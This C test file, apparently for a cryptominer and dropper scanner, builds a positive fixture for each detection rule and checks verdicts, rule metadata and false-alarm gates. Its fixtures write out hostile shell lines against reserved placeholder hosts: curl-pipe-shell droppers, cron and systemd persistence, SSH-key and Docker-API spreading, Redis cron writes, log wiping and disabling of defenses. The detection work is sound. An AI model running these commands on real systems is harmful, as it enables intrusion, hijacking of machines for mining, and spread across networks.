/*
 * test_signatures.c - the built-in rule set (issue 4).
 *
 *  - every built-in rule has a positive fixture made here at test time (a
 *    small ELF or PE compiled with the family's strings, a script, a config,
 *    a page) and the test names the rule that must fire;
 *  - --list-rules prints every rule with family/category/severity/description;
 *  - a base64 dropper yields a "file!base64@N" member that is malicious;
 *  - the JSONL record carries the IOCs (pools, wallets with coin, config);
 *  - the false-alarm gate: no malicious and at most 0.1% suspicious objects
 *    over /usr/bin, /usr/sbin, /usr/lib/x86_64-linux-gnu and /usr/share;
 *  - the hard-negative gate: nothing flagged in the GPU compute, coin node
 *    and wallet, crypto and proof-of-work, password cracker, BOINC, CPU tool
 *    and hwloc packages of corpus-tools/hard-negatives.txt (fetched into
 *    the corpus cache) nor in the CUDA toolkit under /usr/local/cuda*.
 *
 * Fixture hosts are reserved names (example.net, TEST-NET addresses); nothing
 * is ever run or contacted.
 */
#include <criterion/criterion.h>
#include <criterion/parameterized.h>
#include <glob.h>
#include <openssl/evp.h>
#include <openssl/rand.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>

#include "iocs.h"
#include "wallet.h"
#include "util.h"

enum kind { K_TEXT, K_ELF, K_PE, K_WASM };

typedef struct fixture {
    const char *rule;  /* the rule that must fire */
    enum kind kind;
    const char *name;  /* file name of the fixture */
    const char *text;  /* K_TEXT: the file; K_ELF/K_PE/K_WASM: strings, '\n'-separated */
} fixture;

/* A strings list for a compiled fixture: one string per line. */
#define S(...) #__VA_ARGS__

static const fixture fixtures[] = {
    /* ---- miners.yar: compiled executables holding the family's strings ---- */
    {"xmrig_strings", K_ELF, "kworker", "XMRig\nxmrig.com\ndonate-over-proxy\nenable nicehash.com support\ncn-lite/0"},
    {"xmrig_strings", K_PE, "svchost.exe", "XMRig\nxmrig.com\ndonate-over-proxy\nenable nicehash.com support\ncn-lite/0"},
    {"xmrig_algorithm_table", K_ELF, "dbus-helper",
     "cn/half\ncn/rwz\ncn/zls\ncn/double\ncn-heavy/xhv\ncn-pico/tlo\nrx/wow"},
    {"xmrig_botnet_build", K_ELF, "kdevtmpfsi", "/tmp/kdevtmpfsi\nrandomx\nrx/0\ndonate-level"},
    {"xmrig_proxy", K_ELF, "proxy", "xmrig-proxy\ncustom-diff\naccess-log-file\nnicehash"},
    {"xmrig_gpu_plugin", K_ELF, "libgpu.so", "xmrig-cuda\npluginVersion\nrxPrepare\ncnHash\ncudaMalloc\nnvrtcCompileProgram"},
    {"xmrstak_strings", K_ELF, "stak", "xmr-stak\nHASHRATE REPORT\nRESULT REPORT\nConnecting to dev pool..."},
    {"cpuminer_minerd", K_ELF, "md", "Usage: minerd [OPTIONS]\naccepted: %lu/%lu (%.2f%%), %s khash/s %s\n(yay!!!)\n(booooo)"},
    {"cpuminer_multi", K_ELF, "cpum", "cpuminer-multi\nUsage: cpuminer [OPTIONS]\nURL of mining server"},
    {"cpuminer_opt", K_ELF, "cpuo", "cpuminer-opt\npayout address for solo mining\nlyra2z330"},
    {"ccminer_gpu", K_ELF, "ccm", "Usage: ccminer [OPTIONS]\nComma separated list of CUDA devices to use."},
    {"cgminer_bfgminer", K_ELF, "cgm", "cgminer.conf\nmining.subscribe\nmining.notify\nstratum+tcp://"},
    {"ethminer_gpu", K_ELF, "ethm", "ethminer\nstratum1+tcp\neth_submitWork\neth_getWork"},
    {"gpu_miner_closed_source", K_ELF, "lolm", "lolMiner\nethash\nkawpow\nstratum+tcp"},
    {"cryptonight_randomx_code", K_ELF, "cnr", "cryptonight_hash\nmining.subscribe\n\"job_id\""},

    /* ---- protocol.yar ---- */
    {"stratum_methods", K_TEXT, "notes.txt", "client calls mining.subscribe then mining.authorize\n"},
    {"stratum_session_capture", K_TEXT, "stratum.log",
     S({"id":1,"method":"mining.subscribe","params":["cgminer/4.10.0"]}) "\n"
     S({"id":2,"method":"mining.authorize","params":["worker1","x"]}) "\n"
     S({"id":null,"method":"mining.notify","params":["4d16","ff00",true]}) "\n"},
    {"xmrig_jsonrpc_session", K_TEXT, "session.log",
     S({"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"W","pass":"x","agent":"XMRig/6.21.0","algo":["rx/0"]}}) "\n"
     S({"jsonrpc":"2.0","method":"job","params":{"blob":"0707","job_id":"17","target":"b88d0600","algo":"rx/0","seed_hash":"ab12"}}) "\n"},
    {"xmrig_jsonrpc_fields", K_TEXT, "submit.json",
     S({"method":"submit","params":{"id":"1","job_id":"2","nonce":"aa","result":"bb","blob":"07","target":"ff"}}) "\n"},
    {"getwork_rpc", K_TEXT, "gw.json", S({"method": "getwork", "params": [], "id":0}) "\n"},

    /* ---- pools.yar ---- */
    {"stratum_pool_url", K_TEXT, "pool.txt", "pool = stratum+tcp://mine.example.net:3333\n"},
    {"pool_port_in_miner_context", K_TEXT, "p.json", "{ \"url\": \"mine.example.net:3333\" }\n"},
    {"mining_pool_host", K_TEXT, "hosts.txt", "server=pool.supportxmr.com\n"},

    /* ---- configs.yar ---- */
    {"xmrig_config_json", K_TEXT, "config.json",
     "{\n \"donate-level\": 0,\n \"randomx\": {\"mode\": \"fast\"},\n \"cpu\": {\"huge-pages\": true},\n"
     " \"pools\": [\n  {\"url\": \"mine.example.net:443\", \"user\": \"W\", \"pass\": \"x\", \"tls\": true}\n ]\n}\n"},
    {"xmrstak_config", K_TEXT, "pools.txt",
     "\"pool_list\" :\n[\n {\"pool_address\" : \"mine.example.net:3333\", \"wallet_address\" : \"W\","
     " \"pool_password\" : \"x\", \"use_nicehash\" : false, \"use_tls\" : false, \"pool_weight\" : 1},\n],\n"
     "\"currency\" : \"monero\",\n"},
    {"miner_cmdline", K_TEXT, "run.sh",
     "#!/bin/sh\n./xmrig -o stratum+tcp://mine.example.net:3333 -u 4AbCdEfGhJkLmNpQrStUvWxYz123456789 -p x\n"},
    {"miner_cmdline_flags", K_TEXT, "flags.sh", "#!/bin/sh\n./k --donate-level 1 --algo rx/0 -c c.json\n"},
    {"miner_cron_entry", K_TEXT, "root.cron", "*/5 * * * * /tmp/.x/xmrig -c /tmp/.x/config.json >/dev/null 2>&1\n"},
    {"miner_systemd_unit", K_TEXT, "miner.service",
     "[Unit]\nDescription=System helper\n\n[Service]\nExecStart=/opt/.cache/xmrig --config=/etc/h.json\n"
     "Restart=always\n\n[Install]\nWantedBy=multi-user.target\n"},

    /* ---- droppers.yar ---- */
    {"dropper_kill_competitors", K_TEXT, "kill.sh",
     "#!/bin/sh\npkill -f kdevtmpfsi\npkill -f kinsing\nkillall xmrig\n"
     "ps aux | grep minerd | grep -v grep | awk '{print $2}' | xargs kill -9\n"},
    {"dropper_kill_by_port", K_TEXT, "ports.sh",
     "#!/bin/sh\nfor p in :3333 :4444 :5555; do\n"
     "  netstat -anp | grep $p | awk '{print $7}' | cut -d/ -f1 | xargs -r kill -9\ndone\n"},
    {"dropper_cron_fetch", K_TEXT, "cron.sh",
     "#!/bin/sh\n(crontab -l 2>/dev/null; echo \"*/3 * * * * curl -fsSL http://198.51.100.7/a.sh | sh\") | crontab -\n"},
    {"dropper_systemd_fetch", K_TEXT, "upd.service",
     "[Unit]\nDescription=update\n[Service]\nExecStart=/bin/bash -c 'curl -s http://198.51.100.7/x | bash'\n"},
    {"dropper_ld_preload", K_TEXT, "hide.sh", "#!/bin/sh\necho /usr/local/lib/libsys.so > /etc/ld.so.preload\n"},
    {"dropper_process_hider", K_TEXT, "processhider.c",
     "#include <dirent.h>\nstatic const char* process_to_filter = \"kswapd0\";\n"
     "struct dirent* readdir(DIR *dirp) { /* look up /proc/<pid>/stat */ return 0; }\n"},
    {"dropper_chattr_persistence", K_TEXT, "lock.sh", "#!/bin/sh\nchattr -i /etc/ld.so.preload\nchattr +i /var/spool/cron/root\n"},
    {"dropper_security_agent_removal", K_TEXT, "clean.sh",
     "#!/bin/sh\nrm -rf /usr/local/aegis\npkill aliyun-service\n/usr/local/qcloud/stargate/admin/uninstall.sh\n"},
    {"dropper_cpu_tuning", K_TEXT, "tune.sh", "#!/bin/sh\nsysctl -w vm.nr_hugepages=1280\nmodprobe msr\n"},
    {"dropper_base64_pipe_shell", K_TEXT, "b64.sh",
     "#!/bin/sh\necho ZWNobyBoZWxsbyB3b3JsZCwgdGhpcyBpcyBvbmx5IGEgdGVzdA== | base64 -d | sh\n"},
    {"dropper_download_pipe_shell", K_TEXT, "inst.sh", "#!/bin/sh\ncurl -fsSL https://198.51.100.7/i.sh | sh\n"},
    {"dropper_renamed_downloader", K_TEXT, "ren.sh", "#!/bin/sh\nmv /usr/bin/curl /usr/bin/cd1\nmv /usr/bin/wget /usr/bin/wd1\n"},
    {"dropper_log_wiping", K_TEXT, "wipe.sh", "#!/bin/sh\nhistory -c\nunset HISTFILE\necho > /var/log/wtmp\n"},
    {"dropper_miner_install", K_TEXT, "get.sh",
     "#!/bin/sh\nwget -q http://198.51.100.7/xmrig -O /tmp/.x/xmrig\nchmod +x /tmp/.x/xmrig\n"
     "nohup /tmp/.x/xmrig -o stratum+tcp://mine.example.net:3333 -u W -p x &\n"},

    /* ---- dropper_behaviour.yar: droppers that never name a miner ---- */
    {"dropper_kill_by_cpu", K_TEXT, "cpu.sh",
     "#!/bin/sh\nps aux | grep -v grep | awk '{if($3>40.0) print $2}' | xargs -r kill -9\n"},
    {"dropper_kill_list", K_TEXT, "rivals.sh",
     "#!/bin/sh\npkill -f ksoftirqds\npkill -f watchbog\npkill -f sysguard\npkill -f networkservice\n"
     "pkill -f sysupdate\npkill -f phpguard\npkill -f dbused\npkill -f zzh\npkill -f .javae\n"
     "pkill -f solr.sh\npkill -f /tmp/.sh\npkill -f kthreaddk\n"},
    {"dropper_rival_cleanup", K_TEXT, "clean2.sh",
     "#!/bin/sh\nchattr -ia /var/spool/cron/root /root/.ssh/authorized_keys\ncrontab -r\n"
     "rm -f /root/.ssh/authorized_keys\nuserdel -r -f hilde\n"},
    {"dropper_defense_off", K_TEXT, "off.sh",
     "#!/bin/sh\nsetenforce 0 2>/dev/null\nufw disable\necho 0 > /proc/sys/kernel/nmi_watchdog\n"},
    {"dropper_ssh_key_spread", K_TEXT, "spread.sh",
     "#!/bin/bash\nKEYS=$(find ~/ /root /home -maxdepth 3 -name 'id_rsa*' | grep -v pub)\n"
     "HOSTS=$(cat ~/.ssh/known_hosts /root/.bash_history 2>/dev/null | grep -oE '([0-9]{1,3}\\.){3}[0-9]{1,3}')\n"
     "for h in $HOSTS; do for k in $KEYS; do\n"
     "  ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 -i $k root@$h "
     "\"(curl -fsSL http://198.51.100.7/s.sh || wget -q -O- http://198.51.100.7/s.sh) | sh\" &\n"
     "done; done\n"},
    {"dropper_container_api_spread", K_TEXT, "dock.sh",
     "#!/bin/sh\nmasscan 198.51.100.0/24 -p2375 --rate 10000 | awk '{print $6}' > /tmp/h.txt\n"
     "for ip in $(cat /tmp/h.txt); do\n"
     "  docker -H tcp://$ip:2375 run -d --privileged -v /:/host alpine chroot /host sh -c "
     "'curl -s http://198.51.100.7/d.sh | sh'\ndone\n"},
    {"dropper_redis_cron_write", K_TEXT, "r.sh",
     "#!/bin/sh\nfor ip in $(cat ips); do\n"
     "redis-cli -h $ip -p 6379 set x \"\\n*/2 * * * * root curl -fsSL http://198.51.100.7/r.sh | sh\\n\"\n"
     "redis-cli -h $ip config set dir /var/spool/cron\nredis-cli -h $ip config set dbfilename root\n"
     "redis-cli -h $ip save\ndone\n"},
    {"dropper_devtcp_download", K_TEXT, "get2.sh",
     "#!/bin/bash\nexec 3<>/dev/tcp/198.51.100.7/80\n"
     "printf 'GET /b HTTP/1.0\\r\\nHost: 198.51.100.7\\r\\n\\r\\n' >&3\n"
     "sed '1,/^\\r$/d' <&3 > /tmp/.b\nchmod +x /tmp/.b\n/tmp/.b &\n"},
    {"dropper_hidden_stage_exec", K_TEXT, "stage.sh",
     "#!/bin/sh\ncurl -fsSL http://198.51.100.7/k -o /dev/shm/.kthread\nchmod +x /dev/shm/.kthread\n"
     "nohup /dev/shm/.kthread >/dev/null 2>&1 &\n"},
    {"dropper_behaviour_chain", K_TEXT, "chain.sh",
     "#!/bin/sh\niptables -F\nhistory -c\n"
     "netstat -anp | grep :4444 | awk '{print $7}' | cut -d/ -f1 | xargs kill -9\n"
     "curl -s http://198.51.100.7/n.sh | sh\n"},

    /* ---- webminer_bridges.yar ---- */
    {"webminer_stratum_ws_bridge", K_TEXT, "bridge.js",
     "const WebSocket = require('ws');\nconst net = require('net');\n"
     "const wss = new WebSocket.Server({ port: 8892 });\n"
     "wss.on('connection', (ws) => {\n  const pool = net.connect(3333, 'pool.example.net');\n"
     "  ws.on('message', (m) => { const d = JSON.parse(m);\n"
     "    pool.write(JSON.stringify({ id: 1, method: 'login', params: { login: d.user } }) + '\\n'); });\n"
     "  pool.on('data', (b) => ws.send(b.toString()));\n"
     "  setInterval(() => pool.write(JSON.stringify({ id: 2, method: 'keepalived' }) + '\\n'), 30000);\n"
     "  // submit: { job_id, nonce, result }\n});\n"},
    {"webminer_coinhive_proxy", K_TEXT, "ch.js",
     "function onMessage(d) {\n  if (d.type === 'auth') { login(d.params.site_key); }\n"
     "  if (d.type === 'submit') { send('submit', d.params.job_id); }\n}\n"
     "function accepted(n) { ws.send(JSON.stringify({ type: 'hash_accepted', params: { hashes: n } })); }\n"
     "function authed() { ws.send(JSON.stringify({ type: 'authed', params: { token: '', hashes: 0 } })); }\n"},
    {"webminer_wasm_randomx", K_WASM, "rx.wasm", "randomx_create_vm\nrandomx_calculate_hash\nrandomx_init_cache"},
    {"webminer_js_randomx", K_TEXT, "rx.js",
     "const sock = new WebSocket('wss://pool.example.net/ws');\n"
     "const n = navigator.hardwareConcurrency;\nfor (let i = 0; i < n; i++) workers.push(new Worker('randomx-worker.js'));\n"
     "WebAssembly.instantiate(bytes);\nsock.onmessage = (e) => { const j = JSON.parse(e.data); start(j.job_id, j.seed_hash); };\n"},

    /* ---- webminers.yar ---- */
    {"webminer_coinhive", K_TEXT, "index.html",
     "<script src=\"https://coinhive.com/lib/coinhive.min.js\"></script>\n"
     "<script>var m = new CoinHive.Anonymous('SITE_KEY'); m.start();</script>\n"},
    {"webminer_cryptoloot", K_TEXT, "loot.html", "<script>var miner = new CRLT.Anonymous('k', {threads: 2}); miner.start();</script>\n"},
    {"webminer_jsecoin", K_TEXT, "jse.html", "<script src=\"https://load.jsecoin.com/load/1/x/y/0/\"></script>\n"},
    {"webminer_coinimp", K_TEXT, "imp.html", "<script src=\"https://www.hostingcloud.racing/AbCd.js\"></script>\n"},
    {"webminer_webminerpool", K_TEXT, "wmp.html",
     "<script src=\"webmr.js\"></script>\n<script>startMining(\"mine.example.net\", \"W\"); throttleMiner = 20;</script>\n"},
    {"webminer_wasm_cryptonight", K_WASM, "cn.wasm", "cryptonight\nkeccak\ngroestl\nskein"},
    {"webminer_js_cryptonight", K_TEXT, "worker.js",
     "WebAssembly.instantiate(bytes).then(function (m) { var h = m.instance.exports.cryptonight; });\n"
     "var throttle = 0.5; var w = new Worker('cn.js');\n"},

    /* ---- drivers.yar (PE) ---- */
    {"winring0_driver", K_PE, "hwmon.exe", "WinRing0x64.sys\nWinRing0_1_2_0"},
    {"winring0_with_miner", K_PE, "wr.exe", "WinRing0x64.sys\nxmrig\nrandomx\nstratum+tcp://"},
};

#define N_FIXTURES (sizeof(fixtures) / sizeof(fixtures[0]))

/* ---- helpers ---- */

/* A C program that keeps every string of list (one per line) in .rodata. */
static char *c_source(const char *list) {
    size_t cap = strlen(list) * 2 + 512, n = 0;
    char *src = malloc(cap);
    cr_assert_not_null(src);
    n += (size_t)snprintf(src, cap, "#include <stdio.h>\nstatic const char *const s[] = {\n\"");
    for (const char *p = list; *p; p++) {
        if (*p == '\n') {
            n += (size_t)snprintf(src + n, cap - n, "\",\n\"");
            continue;
        }
        if (*p == '"' || *p == '\\')
            src[n++] = '\\';
        src[n++] = *p;
    }
    n += (size_t)snprintf(src + n, cap - n,
                          "\"};\nint main(int argc, char **argv) {\n(void)argv;\n"
                          "if (argc > 99) for (unsigned i = 0; i < sizeof(s) / sizeof(s[0]); i++) puts(s[i]);\n"
                          "return 0;\n}\n");
    return src;
}

/* Write the fixture into dir; returns its path. */
static char *make_fixture(const char *dir, const fixture *f) {
    char *path = t_path(dir, f->name);
    if (f->kind == K_TEXT) {
        free(path);
        return t_write_str(dir, f->name, f->text);
    }
    if (f->kind == K_WASM) {
        /* magic, version, then a custom section with the names as data */
        char buf[512];
        size_t n = 0, l = strlen(f->text);
        memcpy(buf, "\0asm\1\0\0\0\0", 9);
        n = 9;
        buf[n++] = (char)(l + 2);
        buf[n++] = 1;
        buf[n++] = 'n';
        memcpy(buf + n, f->text, l);
        n += l;
        free(path);
        return t_write(dir, f->name, buf, n);
    }
    const char *cc = f->kind == K_PE ? "x86_64-w64-mingw32-gcc" : "cc";
    if (!t_have_program(cc))
        cr_skip_test("%s is not installed: cannot build the %s fixture", cc, f->rule);
    char *src = c_source(f->text);
    cr_assert_eq(t_compile(cc, src, path, NULL), 0, "compiling the %s fixture", f->rule);
    free(src);
    return path;
}

/* Scan path with --all -f jsonl; returns the parsed records. */
static json_t *scan(const char *path, t_result *res) {
    cr_assert_eq(t_minerscan(res, NULL, "-f", "jsonl", "--all", path, NULL), 0);
    json_t *recs = t_jsonl(res->out);
    cr_assert_not_null(recs, "output is not JSON Lines:\n%s\nstderr:\n%s", res->out, res->err);
    return recs;
}

static const char *verdict_of(json_t *rec) {
    return json_string_value(json_object_get(rec, "verdict"));
}

/* ---- every rule fires on its fixture ---- */

/* Parameters are indices: Criterion runs each test in a fresh process where
 * pointers into this one's memory would not be valid. */

ParameterizedTestParameters(signatures, rule_fires) {
    size_t *idx = cr_malloc(N_FIXTURES * sizeof(*idx));
    for (size_t i = 0; i < N_FIXTURES; i++)
        idx[i] = i;
    return cr_make_param_array(size_t, idx, N_FIXTURES);
}

ParameterizedTest(size_t *i_fixture, signatures, rule_fires, .timeout = 120) {
    const fixture *f = &fixtures[*i_fixture];
    char *dir = t_mkdtemp();
    char *path = make_fixture(dir, f);
    t_result res;
    json_t *recs = scan(path, &res);
    json_t *rec = t_find_record(recs, path);
    cr_assert_not_null(rec, "no record for %s:\n%s", path, res.out);
    cr_assert(t_has_rule(rec, f->rule), "rule %s did not fire on %s:\n%s", f->rule, f->name, res.out);
    /* the rule's own severity sets the floor of the verdict */
    size_t i;
    json_t *h;
    json_array_foreach(json_object_get(rec, "rules"), i, h) {
        const char *name = json_string_value(json_object_get(h, "rule"));
        const char *sev = json_string_value(json_object_get(h, "severity"));
        if (!name || strcmp(name, f->rule) != 0)
            continue;
        cr_assert_not_null(sev);
        if (!strcmp(sev, "high"))
            cr_assert_str_eq(verdict_of(rec), "malicious", "%s is high", f->rule);
        else if (!strcmp(sev, "medium"))
            cr_assert(!strcmp(verdict_of(rec), "suspicious") || !strcmp(verdict_of(rec), "malicious"));
    }
    json_decref(recs);
    t_result_free(&res);
    free(path);
    t_rmtree(dir);
    free(dir);
}

/* ---- the miner rules read Mach-O too (private rule "executable") ---- */

Test(signatures, miner_rules_fire_on_macho, .timeout = 120) {
    char *dir = t_mkdtemp();
    const char *argv[N_FIXTURES + 8];
    char *paths[N_FIXTURES] = {0};
    size_t argc = 0, n = 0;
    argv[argc++] = "-f";
    argv[argc++] = "jsonl";
    argv[argc++] = "--all";
    for (size_t i = 0; i < N_FIXTURES; i++) {
        const fixture *f = &fixtures[i];
        if (f->kind != K_ELF || strncmp(f->name, "lib", 3) == 0)
            continue;
        /* a 64-bit little-endian Mach-O header, then the strings */
        size_t l = strlen(f->text);
        char *buf = calloc(1, 32 + l + 1);
        memcpy(buf, "\xcf\xfa\xed\xfe\x07\x00\x00\x01", 8);
        for (size_t k = 0; k < l; k++)
            buf[32 + k] = f->text[k] == '\n' ? '\0' : f->text[k];
        char name[160];
        snprintf(name, sizeof(name), "%zu-%s.macho", i, f->rule);
        paths[i] = t_write(dir, name, buf, 32 + l + 1);
        argv[argc++] = paths[i];
        free(buf);
        n++;
    }
    argv[argc] = NULL;
    cr_assert_geq(n, 10, "miner fixtures: %zu", n);
    t_result res;
    const char *full[N_FIXTURES + 10];
    full[0] = t_minerscan_path();
    memcpy(full + 1, argv, (argc + 1) * sizeof(*argv));
    cr_assert_eq(t_run(full, NULL, 120, &res), 0);
    json_t *recs = t_jsonl(res.out);
    cr_assert_not_null(recs, "%s", res.err);
    for (size_t i = 0; i < N_FIXTURES; i++) {
        if (!paths[i])
            continue;
        json_t *rec = t_find_record(recs, paths[i]);
        cr_assert_not_null(rec, "no record for %s", paths[i]);
        cr_assert(t_has_rule(rec, fixtures[i].rule), "%s did not fire on a Mach-O: %s", fixtures[i].rule,
                  json_dumps(rec, 0));
        cr_assert_str_eq(json_string_value(json_object_get(json_object_get(rec, "filetype"), "class")), "macho");
        free(paths[i]);
    }
    /* "executable" itself is never reported */
    size_t body_len;
    const char *body = t_report_body(res.out, &body_len);
    cr_assert_null(memmem(body, body_len, "\"executable\"", 12), "the private rule was reported");
    json_decref(recs);
    t_result_free(&res);
    t_rmtree(dir);
    free(dir);
}

/* ---- --list-rules: the metadata contract ---- */

typedef struct listed {
    char rule[128];
    char family[128], category[64], severity[32];
    char description[512];
} listed;

static size_t list_rules(listed **ret) {
    t_result res;
    /* issue 11: --list-rules speaks every --format; JSON Lines is the contract */
    cr_assert_eq(t_minerscan(&res, NULL, "--list-rules", "-f", "jsonl", NULL), 0);
    cr_assert_eq(res.status, 0, "--list-rules failed: %s", res.err);
    json_t *recs = t_jsonl(res.out);
    cr_assert_not_null(recs, "--list-rules -f jsonl is JSON Lines");
    size_t n = 0, cap = 256, i;
    listed *l = calloc(cap, sizeof(*l));
    json_t *r;
    json_array_foreach(recs, i, r) {
        cr_assert_str_eq(json_string_value(json_object_get(r, "type")), "rule");
        if (strcmp(json_string_value(json_object_get(r, "namespace")), "builtin") != 0)
            continue;
        cr_assert_lt(n, cap);
        const char *fam = json_string_value(json_object_get(r, "family"));
        const char *cat = json_string_value(json_object_get(r, "category"));
        const char *sev = json_string_value(json_object_get(r, "severity"));
        const char *desc = json_string_value(json_object_get(r, "description"));
        cr_assert(fam && cat && sev && desc, "every field is a string");
        snprintf(l[n].rule, sizeof(l[n].rule), "%s", json_string_value(json_object_get(r, "rule")));
        snprintf(l[n].family, sizeof(l[n].family), "%s", fam);
        snprintf(l[n].category, sizeof(l[n].category), "%s", cat);
        snprintf(l[n].severity, sizeof(l[n].severity), "%s", sev);
        snprintf(l[n].description, sizeof(l[n].description), "%s", desc);
        cr_assert_str_eq(json_string_value(json_object_get(r, "grade")), sev, "%s: graded by its severity",
                         l[n].rule);
        n++;
    }
    json_decref(recs);
    t_result_free(&res);
    *ret = l;
    return n;
}

Test(signatures, list_rules_metadata_contract, .timeout = 60) {
    static const char *const categories[] = {"miner", "protocol", "pool", "config", "dropper",
                                             "webminer", "driver", NULL};
    listed *l = NULL;
    size_t n = list_rules(&l);
    cr_assert_geq(n, 45, "only %zu built-in rules listed", n);
    size_t per_cat[7] = {0};
    for (size_t i = 0; i < n; i++) {
        cr_assert(l[i].family[0] && strcmp(l[i].family, "(null)"), "%s: no family", l[i].rule);
        cr_assert(l[i].description[0] && strcmp(l[i].description, "(null)"), "%s: no description",
                  l[i].rule);
        cr_assert(!strcmp(l[i].severity, "high") || !strcmp(l[i].severity, "medium") ||
                      !strcmp(l[i].severity, "low"),
                  "%s: severity '%s'", l[i].rule, l[i].severity);
        bool known = false;
        for (size_t c = 0; categories[c]; c++)
            if (!strcmp(l[i].category, categories[c])) {
                known = true;
                per_cat[c]++;
            }
        cr_assert(known, "%s: category '%s'", l[i].rule, l[i].category);
    }
    fprintf(stderr, "built-in rules: %zu (", n);
    for (size_t c = 0; categories[c]; c++)
        fprintf(stderr, "%s%s %zu", c ? ", " : "", categories[c], per_cat[c]);
    fprintf(stderr, ")\n");
    for (size_t c = 0; categories[c]; c++)
        cr_assert_gt(per_cat[c], 0, "no %s rule", categories[c]);
    free(l);
}

Test(signatures, every_rule_has_a_fixture, .timeout = 60) {
    listed *l = NULL;
    size_t n = list_rules(&l);
    for (size_t i = 0; i < n; i++) {
        bool found = false;
        for (size_t k = 0; k < N_FIXTURES && !found; k++)
            found = !strcmp(fixtures[k].rule, l[i].rule);
        cr_assert(found, "built-in rule %s has no positive fixture in test_signatures.c", l[i].rule);
    }
    /* and every fixture names a rule that exists */
    for (size_t k = 0; k < N_FIXTURES; k++) {
        bool found = false;
        for (size_t i = 0; i < n && !found; i++)
            found = !strcmp(fixtures[k].rule, l[i].rule);
        cr_assert(found, "fixture names unknown rule %s", fixtures[k].rule);
    }
    free(l);
}

/* ---- one weak signal is not a dropper (issue 10, part 3) ---- */

/* Each of these does one thing a dropper does, the way an admin script
 * does it: no rule of dropper_behaviour.yar may fire on them. */
/* Issue 9: what stock Debian packages hold and once fired. A database's
 * header that tells admins to reserve huge pages (rocksdb), and QEMU's
 * documentation piping a decoded key into sha256sum, are not droppers. */
Test(signatures, documentation_that_names_tuning_or_base64_is_clean, .timeout = 60) {
    static const char *const texts[][2] = {
        {"table.h", "// To reserve huge pages for the block cache:\n"
                    "//                          sysctl -w vm.nr_hugepages=20\n"
                    "struct TableOptions { size_t huge_page_tlb_size; };\n"},
        {"images.html", "<pre>$ for key in `grep 10.33.8.112 known_hosts | awk '{print $3}'`\n"
                        "  do\n    echo $key | base64 -d | sha256sum\n  done\n</pre>\n"},
    };
    char *dir = t_mkdtemp();
    for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
        char *path = t_write_str(dir, texts[i][0], texts[i][1]);
        t_result res;
        json_t *recs = scan(path, &res);
        cr_assert_eq(res.status, 0, "%s flagged: %s", texts[i][0], res.out);
        json_decref(recs);
        t_result_free(&res);
        free(path);
    }
    t_rmtree(dir);
    free(dir);
}

Test(signatures, behaviour_rules_need_several_signals, .timeout = 120) {
    static const char *const texts[] = {
        "#!/bin/sh\n# flush and reload the firewall\niptables -F\niptables -X\niptables-restore < /etc/iptables/rules.v4\n",
        "#!/bin/sh\npkill -f food\nkillall -q barsync\nrm -f /tmp/food.sock\n",
        "#!/bin/sh\nsetenforce 0\nmake test\nsetenforce 1\n",
        "#!/bin/sh\nhistory -c\nclear\n",
        "#!/bin/sh\nssh -o StrictHostKeyChecking=no deploy@build.example.net 'systemctl restart app'\n",
        "#!/bin/sh\ncurl -fsSL https://get.example.net/install.sh | sh\n",
        "#!/bin/bash\nif echo > /dev/tcp/127.0.0.1/5432; then echo up; fi\n",
        "#!/bin/sh\ncrontab -l > /tmp/cron.bak\ndocker -H unix:///var/run/docker.sock ps\n",
    };
    char *dir = t_mkdtemp();
    for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
        char name[32];
        snprintf(name, sizeof(name), "admin%zu.sh", i);
        char *path = t_write_str(dir, name, texts[i]);
        t_result res;
        json_t *recs = scan(path, &res);
        json_t *rec = t_find_record(recs, path);
        cr_assert_not_null(rec, "%s", res.out);
        size_t k;
        json_t *h;
        json_array_foreach(json_object_get(rec, "rules"), k, h) {
            const char *rule = json_string_value(json_object_get(h, "rule"));
            static const char *const ours[] = {"dropper_kill_by_cpu", "dropper_kill_list", "dropper_rival_cleanup",
                                               "dropper_defense_off", "dropper_ssh_key_spread",
                                               "dropper_container_api_spread", "dropper_redis_cron_write",
                                               "dropper_devtcp_download", "dropper_hidden_stage_exec",
                                               "dropper_behaviour_chain"};
            for (size_t o = 0; o < sizeof(ours) / sizeof(ours[0]); o++)
                cr_assert_str_neq(rule, ours[o], "%s fired on admin script %zu", rule, i);
        }
        cr_assert_str_eq(verdict_of(rec), "clean", "admin script %zu: %s", i, res.out);
        json_decref(recs);
        t_result_free(&res);
        free(path);
    }
    t_rmtree(dir);
    free(dir);
}

/* ---- decoded base64 payloads are members ---- */

Test(signatures, base64_dropper_member, .timeout = 120) {
    const char *cmd = "cd /tmp && ./.kworker -o stratum+tcp://mine.example.net:3333 "
                      "-u 4AbCdEfGhJkLmNpQrStUvWxYz123456789abcdef -p x --donate-level=0 -B\n";
    char enc[512], text[1024], member[1200];
    EVP_EncodeBlock((unsigned char *)enc, (const unsigned char *)cmd, (int)strlen(cmd));
    int prefix = snprintf(text, sizeof(text), "#!/bin/sh\necho ");
    snprintf(text + prefix, sizeof(text) - (size_t)prefix, "%s | base64 -d | sh\n", enc);
    char *dir = t_mkdtemp();
    char *path = t_write_str(dir, "dropper.sh", text);
    snprintf(member, sizeof(member), "%s!base64@%d", path, prefix);

    t_result res;
    json_t *recs = scan(path, &res);
    json_t *m = t_find_record(recs, member);
    cr_assert_not_null(m, "no member record %s:\n%s", member, res.out);
    cr_assert(t_has_rule(m, "miner_cmdline"), "%s", res.out);
    cr_assert_str_eq(verdict_of(m), "malicious");
    json_t *top = t_find_record(recs, path);
    cr_assert_not_null(top);
    cr_assert(t_has_rule(top, "dropper_base64_pipe_shell"), "%s", res.out);
    cr_assert_str_eq(verdict_of(top), "malicious", "the worst member decides");
    json_decref(recs);
    t_result_free(&res);
    free(path);
    t_rmtree(dir);
    free(dir);
}

/* ---- IOCs in the record ---- */

Test(signatures, iocs_in_jsonl_record, .timeout = 120) {
    char addr[128], bad[128], text[2048];
    t_make_xmr(18, false, addr, sizeof(addr));
    t_make_xmr(18, false, bad, sizeof(bad));
    bad[40] = bad[40] == 'z' ? 'y' : 'z';
    snprintf(text, sizeof(text),
             "{\n \"donate-level\": 1,\n \"randomx\": {\"1gb-pages\": true},\n \"cpu\": {\"huge-pages\": true},\n"
             " \"pools\": [\n  {\"algo\": \"rx/0\", \"url\": \"stratum+ssl://mine.example.net:443\",\n"
